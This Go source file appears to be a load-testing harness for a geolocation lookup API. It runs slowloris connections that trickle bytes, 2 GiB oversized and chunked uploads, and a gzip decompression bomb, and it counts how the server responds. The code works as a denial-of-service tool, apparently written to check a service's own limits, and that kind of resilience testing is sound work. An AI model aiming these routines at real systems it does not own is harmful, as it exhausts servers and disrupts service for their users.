package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// startSlowloris keeps connections trickling: headers of them send a
// request header a byte a second, bodies a batch POST whose body comes a
// byte every 2 s; a connection the server ends is opened again a second
// later.
func startSlowloris(ctx context.Context, wg *sync.WaitGroup, base string, headers, bodies int, s *attackStats) {
	addr := strings.TrimPrefix(base, "http://")
	for i := 0; i < headers+bodies; i++ {
		head := "GET /api/v1/lookup?lon=120.28&lat=31.85 HTTP/1.1\r\nHost: x\r\nX-Slow: "
		body := false
		if i >= headers {
			head = "POST /api/v1/lookup HTTP/1.1\r\nHost: x\r\nContent-Type: text/csv\r\nContent-Length: 100000000\r\n\r\nid,lon,lat\n"
			body = true
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			for ctx.Err() == nil {
				trickle(ctx, addr, head, body, s)
				time.Sleep(time.Second)
			}
		}()
	}
}

// trickle opens one connection, sends head, then a byte at a time until
// the server ends the connection or ctx ends.
func trickle(ctx context.Context, addr, head string, body bool, s *attackStats) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		time.Sleep(100 * time.Millisecond)
		return
	}
	defer conn.Close()
	s.conns.Add(1)
	if _, err := io.WriteString(conn, head); err != nil {
		s.cut.Add(1)
		return
	}
	gap, b := time.Second, []byte("a")
	if body {
		gap, b = 2*time.Second, []byte("1")
	}
	// the server ending the connection shows as a read that returns
	done := make(chan struct{})
	go func() {
		io.Copy(io.Discard, conn)
		close(done)
	}()
	t := time.NewTicker(gap)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-done:
			s.cut.Add(1)
			return
		case <-t.C:
			if _, err := conn.Write(b); err != nil {
				s.cut.Add(1)
				return
			}
		}
	}
}

// startOversized runs one client that sends, in turn, a plain batch body
// and an import upload of 2 GiB, each with its Content-Length; with capped,
// also a gzip batch that decompresses to 2 GiB of valid CSV, a chunked
// plain batch body of 2 GiB and a chunked import of 2 GiB; each as fast as
// loopback takes it.
func startOversized(ctx context.Context, wg *sync.WaitGroup, base string, capped bool, s *attackStats) {
	const n = 2 << 30
	var bomb []byte
	if capped {
		bomb = gzipBomb(n)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ctx.Err() == nil; i++ {
			body, ctype := uploadStream(n)
			switch i % 5 {
			case 0:
				oversized(ctx, s, "declared batch", base+"/api/v1/lookup", "text/csv", "", csvStream(n), n)
			case 1:
				oversized(ctx, s, "declared import", base+"/api/v1/imports", ctype, "", body, n)
			case 2:
				if capped {
					oversized(ctx, s, "gzip batch", base+"/api/v1/lookup", "text/csv", "gzip", bytes.NewReader(bomb), int64(len(bomb)))
				}
			case 3:
				if capped {
					oversized(ctx, s, "chunked batch", base+"/api/v1/lookup", "text/csv", "", csvStream(n), -1)
				}
			case 4:
				if capped {
					oversized(ctx, s, "chunked import", base+"/api/v1/imports", ctype, "", body, -1)
				}
			}
		}
	}()
}

// oversized sends one request of body, of length n (-1: chunked), and
// counts its answer.
func oversized(ctx context.Context, s *attackStats, what, url, ctype, enc string, body io.Reader, n int64) {
	if n >= 0 {
		body = io.LimitReader(body, n)
	}
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, url, body)
	req.ContentLength = n
	req.Header.Set("Content-Type", ctype)
	req.Header.Set("Authorization", "Bearer "+token)
	if enc != "" {
		req.Header.Set("Content-Encoding", enc)
	}
	t0 := time.Now()
	resp, err := http.DefaultClient.Do(req)
	status := 0
	if err == nil {
		status = resp.StatusCode
		drain(resp)
	}
	s.count(what, status)
	s.oversizeNs.Add(int64(time.Since(t0)))
}

// gzipBomb returns gzip members, concatenated, that decompress to n bytes
// of a CSV batch: a header, then one point repeated.
func gzipBomb(n int64) []byte {
	const block = 1 << 20
	line := "1,120.2817,31.9065\n"
	plain := strings.Repeat(line, block/len(line))
	var head, one bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&head, gzip.BestCompression)
	zw.Write([]byte("id,lon,lat\n"))
	zw.Close()
	zw, _ = gzip.NewWriterLevel(&one, gzip.BestCompression)
	zw.Write([]byte(plain))
	zw.Close()
	out := head.Bytes()
	for sent := int64(0); sent < n; sent += int64(len(plain)) {
		out = append(out, one.Bytes()...)
	}
	return out
}

// csvStream returns a CSV batch of n bytes, made as it is read.
func csvStream(n int64) io.Reader {
	line := "1,120.2817,31.9065\n"
	return io.MultiReader(strings.NewReader("id,lon,lat\n"), io.LimitReader(repeat(line), n))
}

// uploadStream returns a multipart import body with one GeoJSON file part
// of n bytes (a never-ending "features" array of blanks), and its type.
func uploadStream(n int64) (io.Reader, string) {
	var head bytes.Buffer
	mw := multipart.NewWriter(&head)
	mw.CreateFormFile("big", "big.geojson")
	head.WriteString(`{"type":"FeatureCollection","features":[`)
	return io.MultiReader(&head, io.LimitReader(repeat(strings.Repeat(" ", 4096)), n)), mw.FormDataContentType()
}

// repeat returns a reader of s over and over.
func repeat(s string) io.Reader {
	return &repeater{b: []byte(s)}
}

type repeater struct {
	b   []byte
	off int
}

func (r *repeater) Read(p []byte) (int, error) {
	n := 0
	for n < len(p) {
		c := copy(p[n:], r.b[r.off:])
		n += c
		r.off = (r.off + c) % len(r.b)
	}
	return n, nil
}

// drain reads and closes an answer's body.
func drain(resp *http.Response) (int64, error) {
	defer resp.Body.Close()
	n, err := io.Copy(io.Discard, resp.Body)
	if err != nil {
		return n, fmt.Errorf("read answer: %w", err)
	}
	return n, nil
}
